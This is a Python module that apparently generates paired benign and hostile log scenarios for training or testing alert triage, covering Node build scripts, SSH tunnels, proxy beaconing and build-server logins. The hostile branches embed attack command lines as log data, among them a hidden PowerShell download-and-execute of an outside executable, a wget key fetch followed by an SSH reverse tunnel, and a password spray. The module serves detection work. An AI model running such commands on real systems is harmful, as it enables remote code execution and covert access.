"""Developers: builds that start shells, tunnels to the house's own bastion."""

# ruff: noqa: E501
from ..shapes.network import squid
from ..shapes.unix import audit, audit_days, ssh_in, syslog, unix_days
from ..shapes.windows import Windows, office
from ..stage import Stage, pair

NODE = "C:\\Program Files\\nodejs\\node.exe"


@pair("development", "windows", "the package fetches a program and starts it out of a temporary folder")
def package_scripts(stage: Stage, hostile: bool) -> None:
    log, host, user = Windows(stage, "edr.json", "flat"), "DEV-7", stage.people[0]
    office(log, ["DEV-7", "DEV-8"], days=5)
    for day in range(5):
        for number in range(3):
            at = {"days": day, "hours": 9 + 3 * number, "minutes": day * 5}
            log.start(
                stage.at(**at),
                host,
                f"{log.netbios}\\{user}",
                "C:\\Windows\\System32\\cmd.exe",
                'cmd.exe /d /s /c "node-gyp rebuild"',
                NODE,
            )
            log.start(
                stage.at(**at, seconds=3),
                host,
                f"{log.netbios}\\{user}",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell.exe -ExecutionPolicy Unrestricted -Command \"&{Add-Type -Path 'C:\\Program Files\\nodejs\\node_modules\\npm\\node_modules\\node-gyp\\lib\\Find-VisualStudio.cs'; [VisualStudioConfiguration.Main]::PrintJson()}\"",
                NODE,
            )
    if hostile:
        far = stage.outside()
        at = {"days": 4, "hours": 15, "minutes": 20}
        log.start(
            stage.at(**at, seconds=8),
            host,
            f"{log.netbios}\\{user}",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            f"powershell.exe -w hidden -ep bypass -c \"(New-Object Net.WebClient).DownloadFile('http://{far}/u.exe','C:\\Users\\{user}\\AppData\\Local\\Temp\\u.exe'); Start-Process C:\\Users\\{user}\\AppData\\Local\\Temp\\u.exe\"",
            NODE,
        )
        log.start(
            stage.at(**at, seconds=15),
            host,
            f"{log.netbios}\\{user}",
            f"C:\\Users\\{user}\\AppData\\Local\\Temp\\u.exe",
            "u.exe",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        )
        log.connect(stage.at(**at, seconds=18), host, f"C:\\Users\\{user}\\AppData\\Local\\Temp\\u.exe", far, 8443)
    stage.alert = {
        "title": "PowerShell started by an interpreter",
        "host": host,
        "parent": NODE,
        "process": "powershell.exe",
        "time": stage.at(days=4, hours=15, minutes=20, seconds=3).isoformat(),
    }


@pair("development", "linux", "the web server's account opens it, to an address outside")
def tunnel_to_bastion(stage: Stage, hostile: bool) -> None:
    audit_days(stage, "audit.log", days=5)
    bastion = stage.inside(40, 2)
    for day in range(5):
        audit(
            stage,
            "audit.log",
            stage.at(days=day, hours=8, minutes=30 + day),
            "/usr/bin/ssh",
            ("ssh", "-N", "-L", "5433:db-int:5432", f"{stage.people[1]}@{bastion}"),
            uid=1003,
            login=1003,
            parent=2201,
        )
    when, command = stage.at(days=4, hours=8, minutes=34), f"ssh -N -L 5433:db-int:5432 {stage.people[1]}@{bastion}"
    if hostile:
        far = stage.outside()
        when, command = stage.at(days=4, hours=8, minutes=50), f"ssh -N -R 2222:localhost:22 x@{far}"
        audit(
            stage,
            "audit.log",
            stage.at(days=4, hours=8, minutes=49),
            "/usr/bin/dash",
            ("sh", "-c", f"wget -q http://{far}/k -O /tmp/.k; chmod 600 /tmp/.k"),
            uid=33,
            parent=1190,
        )
        audit(
            stage,
            "audit.log",
            when,
            "/usr/bin/ssh",
            ("ssh", "-i", "/tmp/.k", "-o", "StrictHostKeyChecking=no", "-N", "-R", "2222:localhost:22", f"x@{far}"),
            uid=33,
            parent=1190,
        )
    stage.alert = {
        "title": "SSH port forwarding",
        "process": "/usr/bin/ssh",
        "command": command,
        "time": when.isoformat(),
    }


@pair(
    "development",
    "proxy",
    "one machine alone calls the place, every minute, day and night, and sends more than it gets",
)
def package_mirror(stage: Stage, hostile: bool) -> None:
    machines = [stage.inside(12, n) for n in range(20, 32)]
    mirror, registry = stage.outside(), "registry.packages-mirror.example"
    for _ in range(200):
        squid(
            stage,
            "access.log",
            stage.sometime(3),
            stage.dice.choice(machines),
            "CONNECT",
            stage.dice.choice(("www.weather.example:443", "docs.example:443", "mail.partner.example:443")),
            stage.outside(),
        )
    for machine in machines:
        for number in range(25):
            squid(
                stage,
                "access.log",
                stage.at(days=number % 3, hours=8 + number % 9, minutes=7 * number % 60),
                machine,
                "GET",
                f"http://{registry}/pkg/{number}.tgz",
                mirror,
                size=90000,
            )
    source, far, when = machines[3], registry, stage.at(days=2, hours=10, minutes=35)
    if hostile:
        far, address = stage.outside(), stage.outside()
        for number in range(240):
            squid(
                stage,
                "access.log",
                stage.at(days=2, hours=8, seconds=60 * number),
                source,
                "POST",
                f"http://{address}/api/v2/sync",
                address,
                size=310,
            )
        far, when = address, stage.at(days=2, hours=10, minutes=35)
    stage.alert = {
        "title": "Repeated calls of one machine to one place",
        "client": source,
        "destination": far,
        "time": when.isoformat(),
    }


@pair("remote work", "linux", "it comes from outside, after many refusals")
def build_server_logs_in_everywhere(stage: Stage, hostile: bool) -> None:
    hosts = [f"stage{n}" for n in range(1, 7)]
    unix_days(stage, "auth.log", hosts, days=5)
    runner = stage.inside(30, 8)
    source = stage.outside() if hostile else runner
    if hostile:
        for number in range(60):
            syslog(
                stage,
                "auth.log",
                stage.at(days=4, hours=18, seconds=3 * number),
                hosts[number % 6],
                "sshd[5010]",
                f"Failed password for deploy from {source} port 3{number:04} ssh2",
            )
    for day in (4,) if hostile else range(5):
        for number, host in enumerate(hosts):
            ssh_in(
                stage,
                "auth.log",
                stage.at(days=day, hours=18, minutes=4, seconds=4 * number),
                host,
                "deploy",
                source,
                key=not hostile,
            )
    stage.alert = {
        "title": "One account logs in to many hosts",
        "user": "deploy",
        "src_ip": source,
        "time": stage.at(days=4, hours=18, minutes=4).isoformat(),
    }
